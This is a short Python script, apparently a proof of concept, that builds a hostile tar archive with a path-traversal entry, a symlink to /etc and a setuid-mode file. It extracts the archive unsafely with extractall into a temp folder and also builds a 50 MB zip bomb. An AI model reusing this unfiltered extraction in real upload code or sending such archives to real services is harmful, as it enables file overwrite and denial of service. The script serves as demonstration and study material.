import io
import os
import tarfile
import tempfile
import warnings
import zipfile

warnings.simplefilter("ignore")


def hostile_tar():
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, kind, target, data in (("readme.txt", tarfile.REGTYPE, "", b"hello"),
                                         ("../outside.txt", tarfile.REGTYPE, "", b"written by the upload"),
                                         ("link", tarfile.SYMTYPE, "/etc", b""),
                                         ("tool", tarfile.REGTYPE, "", b"#!/bin/sh\n")):
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size = kind, target, len(data)
            info.mode = 0o4755 if name == "tool" else 0o644
            tar.addfile(info, io.BytesIO(data))
    return io.BytesIO(buffer.getvalue())


def generated(file, folder):
    with tarfile.open(fileobj=file) as tar:
        tar.extractall(folder)


base = tempfile.mkdtemp()
folder = os.path.join(base, "upload-7")
os.mkdir(folder)
generated(hostile_tar(), folder)
print("beside the folder:", sorted(os.listdir(base)))
print("in the folder:", sorted(os.listdir(folder)), "- link leads to", os.readlink(os.path.join(folder, "link")))
print("mode of tool:", oct(os.stat(os.path.join(folder, "tool")).st_mode & 0o7777))

bomb = io.BytesIO()
with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("zeros", b"\0" * 50_000_000)
print(f"zip: {len(bomb.getvalue()) // 1000} kB uploaded, 50000 kB on the disk")
